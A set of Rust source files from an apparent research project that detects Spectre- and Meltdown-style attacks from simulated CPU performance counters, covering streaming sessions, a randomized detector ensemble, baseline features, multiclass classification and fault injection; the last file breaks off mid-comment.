///
/// This is [`StreamingDetector`] with inference hoisted out: a service
/// shard owns many sessions plus *one* packed engine and batches windows
/// **across** sessions into a single [`PackedRows`] sweep. The split is
/// two phases per window:
///
/// 1. [`StreamSession::open_window`] — sanitize the raw row in place,
///    run the shared dropout check, and hand back the sampling point to
///    encode at. The caller encodes and batches the row however it likes.
/// 2. [`StreamSession::close_window`] — after the batch sweep, turn the
///    raw perceptron sum into a recorded [`IntervalVerdict`] and advance
///    the health state machine.
///
/// Because a window's verdict depends only on its row bits and sampling
/// point, this two-phase shape is bit-identical to running the stream
/// alone through [`PerSpectron::streaming_packed`] — regardless of how
/// windows from other streams interleave in the batch. The service's
/// shard-determinism tests pin exactly that.
#[derive(Debug, Clone)]
pub struct StreamSession {
    watchlist: Arc<Vec<(String, Vec<usize>)>>,
    point: usize,
    state: SessionState,
    consecutive_degraded: usize,
    quarantine_after: usize,
    degraded_windows: usize,
    lost_windows: usize,
    verdicts: Vec<IntervalVerdict>,
}

/// A portable checkpoint of one [`StreamSession`]'s state — everything a
/// session owns except the shared dropout watchlist (which is re-derived
/// from the detector on [`StreamSession::restore`]).
///
/// This is the re-homing currency of a supervised service: when a shard
/// worker dies and is respawned, the supervisor carries its sessions over
/// as snapshots and restores them into the fresh worker, so the stream's
/// sampling-point cursor, health state machine and verdict log all
/// survive the restart bit-for-bit.
#[derive(Debug, Clone, PartialEq)]
pub struct SessionSnapshot {
    /// Sampling-point cursor (windows opened so far).
    pub point: usize,
    /// Health at checkpoint time.
    pub state: SessionState,
    /// Consecutive degraded windows at checkpoint time.
    pub consecutive_degraded: usize,
    /// The session's quarantine threshold.
    pub quarantine_after: usize,
    /// Windows scored under degraded input so far.
    pub degraded_windows: usize,
    /// Windows lost in flight (accepted but never scored) so far.
    pub lost_windows: usize,
    /// The verdict log, oldest first.
    pub verdicts: Vec<IntervalVerdict>,
}

impl StreamSession {
    /// Creates a session for one stream scored by `detector`. Sessions
    /// share the detector's dropout watchlist by reference — a thousand
    /// sessions cost a thousand cursors, not a thousand detectors.
    pub fn new(detector: &PerSpectron) -> Self {
        Self {
            watchlist: detector.always_active_components(),
            point: 0,
            state: SessionState::Healthy,
            consecutive_degraded: 0,
            quarantine_after: DEFAULT_QUARANTINE_AFTER,
            degraded_windows: 0,
            lost_windows: 0,
            verdicts: Vec::new(),
        }
    }

    /// Checkpoints the session's state (the verdict log is cloned; use
    /// [`StreamSession::into_snapshot`] to move it instead).
    pub fn snapshot(&self) -> SessionSnapshot {
        SessionSnapshot {
            point: self.point,
            state: self.state,
            consecutive_degraded: self.consecutive_degraded,
            quarantine_after: self.quarantine_after,
            degraded_windows: self.degraded_windows,
            lost_windows: self.lost_windows,
            verdicts: self.verdicts.clone(),
        }
    }

    /// Consumes the session, yielding its checkpoint (no clone).
    pub fn into_snapshot(self) -> SessionSnapshot {
        SessionSnapshot {
            point: self.point,
            state: self.state,
            consecutive_degraded: self.consecutive_degraded,
            quarantine_after: self.quarantine_after,
            degraded_windows: self.degraded_windows,
            lost_windows: self.lost_windows,
            verdicts: self.verdicts,
        }
    }

    /// Rebuilds a session from a checkpoint taken by
    /// [`StreamSession::snapshot`]/[`StreamSession::into_snapshot`],
    /// re-attaching the shared dropout watchlist from `detector`. A
    /// restored session continues exactly where the checkpoint left off —
    /// same cursor, same health state, same verdict log — so re-homing a
    /// stream across a worker restart is invisible in its output.
    pub fn restore(detector: &PerSpectron, snapshot: SessionSnapshot) -> Self {
        Self {
            watchlist: detector.always_active_components(),
            point: snapshot.point,
            state: snapshot.state,
            consecutive_degraded: snapshot.consecutive_degraded,
            quarantine_after: snapshot.quarantine_after.max(1),
            degraded_windows: snapshot.degraded_windows,
            lost_windows: snapshot.lost_windows,
            verdicts: snapshot.verdicts,
        }
    }

    /// Rewinds the cursor by one window without recording anything —
    /// crash-recovery surgery for a *torn open*: a window whose
    /// [`StreamSession::open_window`] ran but whose row was lost before it
    /// could be batched (e.g. the worker panicked mid-handling). Restores
    /// the invariant that every cursor position maps to at most one
    /// verdict. Not for normal operation.
    pub fn rollback_open(&mut self) {
        self.point = self.point.saturating_sub(1);
    }

    /// Records a window that was accepted but irrecoverably lost before
    /// scoring (its row died with a crashed worker). The loss is counted
    /// and the session is quarantined — sticky, exactly like the
    /// degraded-window quarantine — because the stream's verdict sequence
    /// now has a gap an operator must know about. Degraded accounting is
    /// untouched: a lost window was never *scored*, degraded or otherwise.
    pub fn record_lost_window(&mut self) {
        self.lost_windows += 1;
        self.state = SessionState::Quarantined;
    }

    /// Windows accepted but lost before scoring (crashed-worker gaps).
    pub fn lost_windows(&self) -> usize {
        self.lost_windows
    }

    /// Overrides the consecutive-degraded-window quarantine threshold
    /// (builder style).
    pub fn with_quarantine_after(mut self, windows: usize) -> Self {
        self.quarantine_after = windows.max(1);
        self
    }

    /// Phase 1 of scoring one window: sanitizes `row` in place (non-finite
    /// sensor readings masked to zero, exactly as the single-stream sink
    /// does on its scratch copy) and runs the shared dropout check.
    /// Returns the sampling point to encode this row at plus the degraded
    /// status to carry into [`StreamSession::close_window`]; the cursor
    /// advances, so windows must be closed in open order.
    pub fn open_window(&mut self, row: &mut [f64]) -> (usize, Option<Degraded>) {
        let mut sanitized_values = 0;
        for v in row.iter_mut() {
            if needs_sanitizing(*v) {
                *v = 0.0;
                sanitized_values += 1;
            }
        }
        let degraded = degraded_status(&self.watchlist, row, sanitized_values);
        let point = self.point;
        self.point += 1;
        (point, degraded)
    }

    /// Phase 2: records the verdict for a window opened earlier, given the
    /// raw perceptron sum the batched sweep produced for its row, and
    /// advances the health state machine.
    pub fn close_window(
        &mut self,
        detector: &PerSpectron,
        at_inst: u64,
        degraded: Option<Degraded>,
        raw_score: f64,
    ) -> &IntervalVerdict {
        if degraded.is_some() {
            self.degraded_windows += 1;
            self.consecutive_degraded += 1;
            if self.consecutive_degraded >= self.quarantine_after {
                self.state = SessionState::Quarantined;
            } else if self.state != SessionState::Quarantined {
                self.state = SessionState::Degraded;
            }
        } else {
            self.consecutive_degraded = 0;
            if self.state == SessionState::Degraded {
                self.state = SessionState::Healthy;
            }
        }
        let confidence = detector.normalize_score(raw_score);
        self.verdicts.push(IntervalVerdict {
            at_inst,
            confidence,
            suspicious: confidence >= detector.threshold,
            degraded,
        });
        self.verdicts.last().expect("just pushed")
    }

    /// Current health of the stream.
    pub fn state(&self) -> SessionState {
        self.state
    }

    /// Sampling windows opened so far (the cursor position).
    pub fn windows_opened(&self) -> usize {
        self.point
    }

    /// Windows scored under degraded input so far.
    pub fn degraded_windows(&self) -> usize {
        self.degraded_windows
    }

    /// Every verdict recorded for this stream, oldest first.
    pub fn verdicts(&self) -> &[IntervalVerdict] {
        &self.verdicts
    }

    /// Consumes the session, yielding its verdict log.
    pub fn into_verdicts(self) -> Vec<IntervalVerdict> {
        self.verdicts
    }

    /// Rewinds the cursor, clears verdicts, and restores `Healthy` — the
    /// operator's "sensor bank serviced" acknowledgement for a
    /// quarantined stream.
    pub fn reset(&mut self) {
        self.point = 0;
        self.state = SessionState::Healthy;
        self.consecutive_degraded = 0;
        self.degraded_windows = 0;
        self.lost_windows = 0;
        self.verdicts.clear();
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::{Dataset, Encoding};
    use crate::trace::{stream_trace, CorpusSpec};
    use std::sync::Arc;

    fn tiny_spec() -> CorpusSpec {
        let mut all = workloads::full_suite();
        all.retain(|w| w.name == "flush-reload" || w.name == "hmmer");
        CorpusSpec {
            insts_per_workload: 60_000,
            sample_interval: 10_000,
            workloads: all,
        }
    }

    #[test]
    fn streaming_featurizer_matches_batch_dataset_rows() {
        let spec = tiny_spec();
        let corpus = spec.collect();
        let ds = Dataset::from_corpus(&corpus, Encoding::KSparse);
        let encoder = RowEncoder::new(Arc::new(ds.max_matrix.clone()), Encoding::KSparse);
        let mut streamed: Vec<Vec<f64>> = Vec::new();
        for w in &spec.workloads {
            let mut f = StreamingFeaturizer::new(encoder.clone());
            stream_trace(w, spec.insts_per_workload, spec.sample_interval, &mut f);
            streamed.extend(f.into_rows());
        }
        let batch: Vec<&Vec<f64>> = ds.samples.iter().map(|s| &s.x).collect();
        assert_eq!(streamed.len(), batch.len());
        for (a, b) in streamed.iter().zip(batch) {
            assert_eq!(a, b, "streamed features must be bit-identical to batch");
        }
    }

    #[test]
    fn clean_streams_carry_no_degraded_status() {
        let spec = tiny_spec();
        let corpus = spec.collect();
        let det = PerSpectron::train(&corpus, 7);
        let mut mon = det.streaming();
        stream_trace(&spec.workloads[0], 60_000, 10_000, &mut mon);
        assert!(!mon.verdicts().is_empty());
        assert_eq!(mon.degraded_intervals(), 0, "clean run must not degrade");
        assert!(mon.verdicts().iter().all(|v| v.degraded.is_none()));
    }

    #[test]
    fn corrupted_and_dropped_rows_degrade_but_never_panic_or_nan() {
        let spec = tiny_spec();
        let corpus = spec.collect();
        let det = PerSpectron::train(&corpus, 7);
        let mut mon = det.streaming();
        let width = det.schema().len();

        // A healthy-looking row, then one with corrupted values, then one
        // with every always-active component dropped (all-zero).
        let healthy: Vec<f64> = vec![1.0; width];
        let mut corrupt = healthy.clone();
        corrupt[0] = f64::NAN;
        corrupt[width / 2] = f64::INFINITY;
        let dead: Vec<f64> = vec![0.0; width];

        mon.on_sample(10_000, &healthy);
        mon.on_sample(20_000, &corrupt);
        mon.on_sample(30_000, &dead);

        let v = mon.verdicts();
        assert!(v.iter().all(|v| v.confidence.is_finite()));
        let d1 = v[1].degraded.as_ref().expect("corrupt row degrades");
        assert_eq!(d1.sanitized_values, 2);
        let d2 = v[2].degraded.as_ref().expect("dead sensors degrade");
        assert!(
            d2.missing_components.contains(&"cpu".to_string()),
            "an all-zero row silences even the cycle counter: {:?}",
            d2.missing_components
        );
        assert_eq!(d2.sanitized_values, 0);
    }

    #[test]
    fn session_snapshot_restore_round_trips_and_continues_bit_identically() {
        let spec = tiny_spec();
        let corpus = spec.collect();
        let det = PerSpectron::train(&corpus, 7);
        let t = &corpus.traces[0].trace;
        let width = t.schema().len();
        let flat = t.flat_values();
        let encoder = det.packed_encoder();
        let engine = det.packed_perceptron().clone();

        // Reference: one session scores the whole trace.
        let mut whole = StreamSession::new(&det).with_quarantine_after(3);
        let mut bits = mlkit::BitRow::zeros(encoder.width());
        let mut score_one = |session: &mut StreamSession, j: usize| {
            let mut row: Vec<f64> = flat[j * width..(j + 1) * width].to_vec();
            let (point, degraded) = session.open_window(&mut row);
            encoder.encode_bits_into(&row, point, &mut bits);
            let raw = engine.score_bits(&bits);
            session
                .close_window(&det, t.instruction_counts()[j], degraded, raw)
                .clone()
        };
        for j in 0..t.len() {
            score_one(&mut whole, j);
        }

        // Re-homed: snapshot mid-stream, restore into a "fresh worker",
        // continue. Verdicts must be bit-identical to the whole run.
        let mut first = StreamSession::new(&det).with_quarantine_after(3);
        let cut = t.len() / 2;
        for j in 0..cut {
            score_one(&mut first, j);
        }
        let snap = first.into_snapshot();
        assert_eq!(snap.point, cut);
        let mut second = StreamSession::restore(&det, snap.clone());
        assert_eq!(second.snapshot(), snap, "restore must be lossless");
        for j in cut..t.len() {
            score_one(&mut second, j);
        }
        assert_eq!(second.verdicts().len(), whole.verdicts().len());
        for (a, b) in second.verdicts().iter().zip(whole.verdicts()) {
            assert_eq!(
                a.confidence.to_bits(),
                b.confidence.to_bits(),
                "re-homed session drifted from the uninterrupted run"
            );
            assert_eq!(a, b);
        }
    }

    #[test]
    fn lost_windows_quarantine_stickily_without_touching_degraded_accounting() {
        let spec = tiny_spec();
        let corpus = spec.collect();
        let det = PerSpectron::train(&corpus, 7);
        let width = det.schema().len();
        let mut s = StreamSession::new(&det);

        // A clean window scores normally.
        let mut row = vec![1.0; width];
        let (_, degraded) = s.open_window(&mut row);
        s.close_window(&det, 10_000, degraded, 0.0);
        assert_eq!(s.state(), SessionState::Healthy);

        // A torn open is rolled back, then the loss is recorded.
        let mut row2 = vec![1.0; width];
        let _ = s.open_window(&mut row2);
        assert_eq!(s.windows_opened(), 2);
        s.rollback_open();
        assert_eq!(s.windows_opened(), 1);
        s.record_lost_window();
        assert_eq!(s.lost_windows(), 1);
        assert_eq!(s.state(), SessionState::Quarantined);
        assert_eq!(s.degraded_windows(), 0, "loss is not degradation");

        // Sticky: a later clean window does not clear the quarantine.
        let mut row3 = vec![1.0; width];
        let (_, degraded) = s.open_window(&mut row3);
        s.close_window(&det, 20_000, degraded, 0.0);
        assert_eq!(s.state(), SessionState::Quarantined);

        // reset() is the operator acknowledgement that clears everything.
        s.reset();
        assert_eq!(s.lost_windows(), 0);
        assert_eq!(s.state(), SessionState::Healthy);
    }

    #[test]
    fn streaming_detector_reset_rewinds_the_cursor() {
        let spec = tiny_spec();
        let corpus = spec.collect();
        let det = PerSpectron::train(&corpus, 7);
        let mut mon = det.streaming();
        let w = &spec.workloads[0];
        stream_trace(w, 30_000, 10_000, &mut mon);
        let first = mon.verdicts().to_vec();
        assert!(!first.is_empty());
        mon.reset();
        stream_trace(w, 30_000, 10_000, &mut mon);
        assert_eq!(mon.verdicts(), &first[..], "reset must replay identically");
    }
}
