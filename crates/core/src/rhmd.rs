//! RHMD-style evasion resilience (§IX future work): an ensemble of
//! detectors over *randomized feature subsets*, invoked stochastically.
//!
//! Khasawneh et al.'s RHMD shows that a reverse-engineering adversary can
//! craft inputs that evade any single fixed detector, but randomizing which
//! detector answers each query makes evasion a provably harder (non-convex)
//! problem. The paper proposes applying the same idea to PerSpectron; this
//! module implements it.

use mlkit::{Classifier, Perceptron};
use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::{Rng, SeedableRng};

use crate::dataset::Dataset;
use crate::features::FeatureSelection;

/// An ensemble of perceptrons, each trained on a random subset of the
/// selected features; classification consults a randomly drawn member.
#[derive(Debug, Clone)]
pub struct RhmdDetector {
    members: Vec<(Vec<usize>, Perceptron, f64)>,
    rng: StdRng,
}

impl RhmdDetector {
    /// Trains `n_members` detectors, each over a random
    /// `subset_fraction` of the selected features.
    ///
    /// # Panics
    ///
    /// Panics if `n_members == 0` or `subset_fraction` is not in `(0, 1]`.
    pub fn train(
        dataset: &Dataset,
        selection: &FeatureSelection,
        n_members: usize,
        subset_fraction: f64,
        seed: u64,
    ) -> Self {
        assert!(n_members > 0, "need at least one member");
        assert!(
            subset_fraction > 0.0 && subset_fraction <= 1.0,
            "subset fraction must be in (0, 1]"
        );
        let mut rng = StdRng::seed_from_u64(seed);
        let subset_len = ((selection.selected.len() as f64 * subset_fraction) as usize).max(8);
        let y = dataset.y();
        let mut members = Vec::with_capacity(n_members);
        for _ in 0..n_members {
            let mut pool = selection.selected.clone();
            pool.shuffle(&mut rng);
            let mut subset: Vec<usize> = pool.into_iter().take(subset_len).collect();
            subset.sort_unstable();
            let x: Vec<Vec<f64>> = dataset
                .samples
                .iter()
                .map(|s| subset.iter().map(|&i| s.x[i]).collect())
                .collect();
            let mut p = Perceptron::new(subset.len());
            p.margin = 2.0;
            p.target_error = 0.002;
            p.positive_weight = 3.0;
            p.fit(&x, &y);
            let norm: f64 = p.weights().iter().map(|w| w.abs()).sum::<f64>() + p.bias().abs();
            members.push((subset, p, norm.max(1e-12)));
        }
        Self { members, rng }
    }

    /// Number of ensemble members.
    pub fn member_count(&self) -> usize {
        self.members.len()
    }

    /// Classifies a full-width sample row by consulting one randomly drawn
    /// member (the stochastic invocation that defeats detector
    /// reverse-engineering).
    pub fn is_suspicious(&mut self, full_row: &[f64]) -> bool {
        let pick = self.rng.gen_range(0..self.members.len());
        self.member_confidence(pick, full_row) >= 0.0
    }

    /// Normalized confidence of a specific member (for analysis).
    pub fn member_confidence(&self, member: usize, full_row: &[f64]) -> f64 {
        let (subset, p, norm) = &self.members[member];
        let projected: Vec<f64> = subset.iter().map(|&i| full_row[i]).collect();
        p.score(&projected) / norm
    }

    /// Fraction of members flagging the sample — the ensemble's majority
    /// view (deterministic, used by tests).
    pub fn agreement(&self, full_row: &[f64]) -> f64 {
        let hits = (0..self.members.len())
            .filter(|&m| self.member_confidence(m, full_row) >= 0.0)
            .count();
        hits as f64 / self.members.len() as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::Encoding;
    use crate::features::SelectionConfig;
    use crate::trace::CorpusSpec;
    use workloads::Class;

    #[test]
    fn randomized_ensemble_still_separates_attack_from_benign() {
        let mut all = workloads::full_suite();
        all.retain(|w| {
            ["spectre-v1-classic", "flush-reload", "gcc", "hmmer"].contains(&w.name.as_str())
        });
        let corpus = CorpusSpec {
            insts_per_workload: 120_000,
            sample_interval: 10_000,
            workloads: all,
        }
        .collect();
        let dataset = Dataset::from_corpus(&corpus, Encoding::KSparse);
        let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());
        let rhmd = RhmdDetector::train(&dataset, &selection, 5, 0.5, 99);
        assert_eq!(rhmd.member_count(), 5);

        let mut attack_agree = 0.0;
        let mut benign_agree = 0.0;
        let (mut na, mut nb) = (0, 0);
        for (s, t) in dataset
            .samples
            .iter()
            .map(|s| (s, &corpus.traces[s.workload]))
        {
            let a = rhmd.agreement(&s.x);
            if t.class == Class::Malicious {
                attack_agree += a;
                na += 1;
            } else {
                benign_agree += a;
                nb += 1;
            }
        }
        attack_agree /= na as f64;
        benign_agree /= nb as f64;
        assert!(
            attack_agree > 0.7,
            "ensemble members should flag attacks, got {attack_agree:.2}"
        );
        assert!(
            benign_agree < 0.3,
            "ensemble members should pass benign, got {benign_agree:.2}"
        );
    }

    #[test]
    fn members_use_different_feature_subsets() {
        let mut all = workloads::full_suite();
        all.retain(|w| ["flush-flush", "bzip2"].contains(&w.name.as_str()));
        let corpus = CorpusSpec {
            insts_per_workload: 60_000,
            sample_interval: 10_000,
            workloads: all,
        }
        .collect();
        let dataset = Dataset::from_corpus(&corpus, Encoding::KSparse);
        let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());
        let rhmd = RhmdDetector::train(&dataset, &selection, 4, 0.4, 7);
        let subsets: Vec<_> = (0..4).map(|m| rhmd.members[m].0.clone()).collect();
        assert!(
            subsets.windows(2).any(|w| w[0] != w[1]),
            "random subsets should differ"
        );
    }

    #[test]
    #[should_panic(expected = "at least one member")]
    fn zero_members_panics() {
        let mut all = workloads::full_suite();
        all.retain(|w| w.name == "bzip2");
        let corpus = CorpusSpec {
            insts_per_workload: 20_000,
            sample_interval: 10_000,
            workloads: all,
        }
        .collect();
        let dataset = Dataset::from_corpus(&corpus, Encoding::KSparse);
        let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());
        let _ = RhmdDetector::train(&dataset, &selection, 0, 0.5, 1);
    }
}
