//! The "MAP" baseline feature view: the committed-architectural-state
//! features of malware-aware processors (Ozsoy et al., HPCA 2015), used by
//! Table IV to show that malware-detector features miss microarchitectural
//! attacks.

use std::sync::Arc;

use uarch_stats::Schema;

use crate::encode::{Encoding, MaxMatrix, RowEncoder};

/// Resolves the MAP-style feature set against the schema: instruction-mix
/// distribution, memory access counts and architectural branch events —
/// committed state only, nothing speculative.
pub fn map_feature_indices(schema: &Schema) -> Vec<usize> {
    let mut idx = Vec::new();
    for (i, name) in schema.names().iter().enumerate() {
        let committed_mix = name.starts_with("commit.op_class_0::");
        let arch_counters = matches!(
            name.as_str(),
            "commit.committedInsts"
                | "commit.committedOps"
                | "commit.branches"
                | "commit.branchMispredicts"
                | "commit.loads"
                | "commit.stores"
                | "commit.refs"
                | "commit.int_insts"
                | "commit.fp_insts"
                | "commit.functionCalls"
                | "numLoadInsts"
                | "numStoreInsts"
                | "numBranches"
        );
        let mem_access = matches!(
            name.as_str(),
            "dcache.ReadReq_accesses"
                | "dcache.WriteReq_accesses"
                | "dcache.overall_accesses"
                | "dcache.overall_misses"
                | "icache.overall_accesses"
                | "icache.overall_misses"
        );
        if committed_mix || arch_counters || mem_access {
            idx.push(i);
        }
    }
    idx
}

/// A per-sample encoder projecting raw delta rows onto the MAP feature
/// set — the same shared normalization/binarization helper the selected
/// invariant view uses (see
/// [`FeatureSelection::encoder`](crate::features::FeatureSelection::encoder)),
/// so both baselines see identically encoded samples.
pub fn map_encoder(schema: &Schema, max: Arc<MaxMatrix>, encoding: Encoding) -> RowEncoder {
    RowEncoder::new(max, encoding).with_projection(map_feature_indices(schema))
}

#[cfg(test)]
mod tests {
    use super::*;
    use sim_cpu::{Core, CoreConfig};
    use uarch_isa::Assembler;
    use uarch_stats::{Sampler, Snapshot};

    fn schema() -> Schema {
        let mut a = Assembler::new("s");
        a.halt();
        let core = Core::new(CoreConfig::default(), a.finish().unwrap());
        let snap = Snapshot::of(&core, "");
        let _ = snap;
        Sampler::new(&core, "").schema().clone()
    }

    #[test]
    fn map_view_is_a_small_committed_state_subset() {
        let s = schema();
        let idx = map_feature_indices(&s);
        assert!(
            (20..60).contains(&idx.len()),
            "MAP view should be a few dozen features, got {}",
            idx.len()
        );
        for &i in &idx {
            let n = s.name(i);
            assert!(
                n.starts_with("commit.")
                    || n.starts_with("dcache.")
                    || n.starts_with("icache.")
                    || !n.contains('.'),
                "unexpected MAP feature {n}"
            );
        }
    }

    #[test]
    fn map_view_excludes_speculative_features() {
        let s = schema();
        let idx = map_feature_indices(&s);
        for &i in &idx {
            let n = s.name(i);
            assert!(!n.contains("Squash"), "{n} is speculative");
            assert!(!n.contains("NonSpec"), "{n} is speculative");
        }
    }
}
