//! Multi-way attack classification (§VII-B): one-vs-rest perceptrons that
//! name the attack family, not just the binary suspicious/benign verdict.
//!
//! The paper reports near-perfect F1 on the training set but could not
//! cross-validate multi-way (too few attacks per category); we reproduce
//! both the capability and that caveat.

use mlkit::{Classifier, Perceptron};
use workloads::Family;

use crate::dataset::Dataset;
use crate::features::FeatureSelection;

/// A one-vs-rest multiclass classifier over the selected feature space.
///
/// One perceptron per attack family plus one for the benign class; the
/// predicted class is the head with the highest normalized score. Hardware
/// cost scales linearly: each head is another bank of 106 weights sharing
/// the same feature wires.
#[derive(Debug, Clone)]
pub struct MulticlassDetector {
    heads: Vec<(Family, Perceptron, f64)>,
    selected: Vec<usize>,
}

impl MulticlassDetector {
    /// Trains one head per family present in the dataset.
    pub fn train(dataset: &Dataset, selection: &FeatureSelection) -> Self {
        let mut families: Vec<Family> = dataset.samples.iter().map(|s| s.family).collect();
        families.sort_by_key(|f| f.label());
        families.dedup();

        let (x, _) = dataset.project(&selection.selected);
        let mut heads = Vec::new();
        for fam in families {
            let y: Vec<i8> = dataset
                .samples
                .iter()
                .map(|s| if s.family == fam { 1 } else { -1 })
                .collect();
            let mut p = Perceptron::new(selection.selected.len());
            p.margin = 2.0;
            p.target_error = 0.002;
            p.positive_weight = 3.0;
            p.fit(&x, &y);
            let norm: f64 = p.weights().iter().map(|w| w.abs()).sum::<f64>() + p.bias().abs();
            heads.push((fam, p, norm.max(1e-12)));
        }
        Self {
            heads,
            selected: selection.selected.clone(),
        }
    }

    /// The families this classifier can name.
    pub fn families(&self) -> Vec<Family> {
        self.heads.iter().map(|(f, _, _)| *f).collect()
    }

    /// Classifies one full-width sample row; returns the best family and
    /// its normalized score.
    pub fn classify(&self, full_row: &[f64]) -> (Family, f64) {
        let projected: Vec<f64> = self.selected.iter().map(|&i| full_row[i]).collect();
        self.heads
            .iter()
            .map(|(f, p, norm)| (*f, p.score(&projected) / norm))
            .max_by(|a, b| a.1.partial_cmp(&b.1).expect("no NaN scores"))
            .expect("at least one head")
    }

    /// Training-set macro F1 over all heads (the paper's near-perfect
    /// multi-way training F1).
    pub fn training_macro_f1(&self, dataset: &Dataset) -> f64 {
        let mut f1s = Vec::new();
        for (fam, _, _) in &self.heads {
            let (mut tp, mut fp, mut fn_) = (0usize, 0usize, 0usize);
            for s in &dataset.samples {
                let (pred, _) = self.classify(&s.x);
                match (pred == *fam, s.family == *fam) {
                    (true, true) => tp += 1,
                    (true, false) => fp += 1,
                    (false, true) => fn_ += 1,
                    _ => {}
                }
            }
            let p = if tp + fp == 0 {
                0.0
            } else {
                tp as f64 / (tp + fp) as f64
            };
            let r = if tp + fn_ == 0 {
                0.0
            } else {
                tp as f64 / (tp + fn_) as f64
            };
            f1s.push(if p + r == 0.0 {
                0.0
            } else {
                2.0 * p * r / (p + r)
            });
        }
        f1s.iter().sum::<f64>() / f1s.len().max(1) as f64
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::dataset::Encoding;
    use crate::features::SelectionConfig;
    use crate::trace::CorpusSpec;

    #[test]
    fn names_the_attack_family_on_training_data() {
        let mut all = workloads::full_suite();
        all.retain(|w| {
            [
                "spectre-v1-classic",
                "meltdown",
                "flush-flush",
                "bzip2",
                "povray",
            ]
            .contains(&w.name.as_str())
        });
        let corpus = CorpusSpec {
            insts_per_workload: 120_000,
            sample_interval: 10_000,
            workloads: all,
        }
        .collect();
        let dataset = Dataset::from_corpus(&corpus, Encoding::KSparse);
        let selection = FeatureSelection::select(&dataset, &SelectionConfig::default());
        let mc = MulticlassDetector::train(&dataset, &selection);

        assert!(mc.families().len() >= 4);
        let f1 = mc.training_macro_f1(&dataset);
        assert!(
            f1 > 0.8,
            "multi-way training F1 should be high, got {f1:.3}"
        );

        // Spot-check: a meltdown sample classifies as meltdown.
        let meltdown_sample = dataset
            .samples
            .iter()
            .filter(|s| s.family == workloads::Family::Meltdown)
            .nth(3)
            .expect("meltdown samples exist");
        let (fam, _) = mc.classify(&meltdown_sample.x);
        assert_eq!(fam, workloads::Family::Meltdown);
    }
}
