//! Deterministic sensor-fault injection for the streaming pipeline.
//!
//! The paper's resilience argument is that *replicated* detectors over
//! invariant features keep working when individual signals are perturbed.
//! This module makes that claim testable: a seeded [`FaultPlan`] describes
//! sensor-level faults — per-component stat dropout, whole-sample-row
//! drops, value corruption (NaN/∞/saturation) and interval jitter — and a
//! [`FaultySink`] adapter applies them at the [`SampleSink`] boundary,
//! between the simulator's sampler and whatever consumes the rows (a
//! columnar trace, a [`StreamingDetector`](crate::StreamingDetector)).
//!
//! Faults are injected *outside* the simulated machine: the golden-stat
//! bit-identity of the core is untouched, and with a quiet spec
//! ([`FaultSpec::none`]) the adapter is a literal pass-through, so the
//! clean pipeline stays byte-for-byte identical.
//!
//! Determinism: every fault draw comes from an xorshift64* stream seeded
//! by `mix(plan seed, fnv(workload name))`. The stream depends only on
//! the plan seed and the workload's name — never on which thread runs the
//! workload or in what order — so the same seed and spec produce
//! byte-identical faulted corpora across any collection thread count.

use std::sync::Arc;

use uarch_stats::{SampleSink, Schema};

use crate::features::component_of;

/// What sensor faults to inject, and how often.
///
/// All rates are probabilities in `[0, 1]` drawn independently per event
/// (per interval, per component, or per value). A spec with every rate at
/// zero and no jitter is *quiet*: [`FaultySink`] forwards rows untouched.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct FaultSpec {
    /// Seed of the fault plan; per-workload streams derive from it.
    pub seed: u64,
    /// Probability, per component per interval, that the component's
    /// counters all read zero for that interval (a dead sensor bank).
    pub component_dropout: f64,
    /// Probability, per interval, that the whole sample row is lost (the
    /// sink never sees it — a dropped telemetry packet).
    pub row_drop: f64,
    /// Probability, per value per interval, that the value is corrupted
    /// to NaN, ±∞ or a saturated counter.
    pub corruption: f64,
    /// Maximum absolute perturbation of the reported committed-instruction
    /// count, in instructions (sampling-clock jitter). Zero disables.
    pub interval_jitter: u64,
}

impl FaultSpec {
    /// The quiet spec: no faults at all. [`FaultySink`] built from this is
    /// a pure pass-through.
    pub fn none() -> Self {
        Self {
            seed: 0,
            component_dropout: 0.0,
            row_drop: 0.0,
            corruption: 0.0,
            interval_jitter: 0,
        }
    }

    /// Whether this spec injects nothing.
    pub fn is_quiet(&self) -> bool {
        self.component_dropout <= 0.0
            && self.row_drop <= 0.0
            && self.corruption <= 0.0
            && self.interval_jitter == 0
    }
}

/// xorshift64* — small, fast, and deterministic. A zero state is remapped
/// (xorshift sticks at zero).
///
/// Public because every deterministic-perturbation layer in the repo
/// draws from the same generator family: the fault plans here, and the
/// service tier's chaos plans and jittered submit backoff
/// (`perspectron-serviced`), which must stay byte-reproducible the same
/// way faulted corpora are.
#[derive(Debug, Clone)]
pub struct XorShift64 {
    state: u64,
}

impl XorShift64 {
    /// Seeds a stream (zero is remapped to a fixed odd constant).
    pub fn new(seed: u64) -> Self {
        Self {
            state: if seed == 0 {
                0x9e37_79b9_7f4a_7c15
            } else {
                seed
            },
        }
    }

    /// The next 64-bit draw.
    #[allow(clippy::should_implement_trait)] // not an iterator: draws never end
    pub fn next(&mut self) -> u64 {
        let mut x = self.state;
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        self.state = x;
        x.wrapping_mul(0x2545_f491_4f6c_dd1d)
    }

    /// Uniform draw in `[0, 1)` (53-bit mantissa).
    pub fn unit(&mut self) -> f64 {
        (self.next() >> 11) as f64 / (1u64 << 53) as f64
    }

    /// Bernoulli draw. Always consumes exactly one stream value so the
    /// draw sequence is independent of which faults actually fire.
    pub fn chance(&mut self, p: f64) -> bool {
        self.unit() < p
    }
}

/// FNV-1a over a workload name, used to derive its fault stream.
pub fn fnv1a(name: &str) -> u64 {
    let mut h = 0xcbf2_9ce4_8422_2325u64;
    for b in name.bytes() {
        h ^= b as u64;
        h = h.wrapping_mul(0x100_0000_01b3);
    }
    h
}

/// splitmix64 finalizer: decorrelates `seed ^ fnv(name)` into a stream
/// seed.
pub fn mix(mut z: u64) -> u64 {
    z = z.wrapping_add(0x9e37_79b9_7f4a_7c15);
    z = (z ^ (z >> 30)).wrapping_mul(0xbf58_476d_1ce4_e5b9);
    z = (z ^ (z >> 27)).wrapping_mul(0x94d0_49bb_1331_11eb);
    z ^ (z >> 31)
}

/// A seeded description of which faults to inject across a corpus.
///
/// The plan itself is tiny (the spec plus a cached component partition of
/// the schema); per-workload [`FaultySink`]s are derived from it via
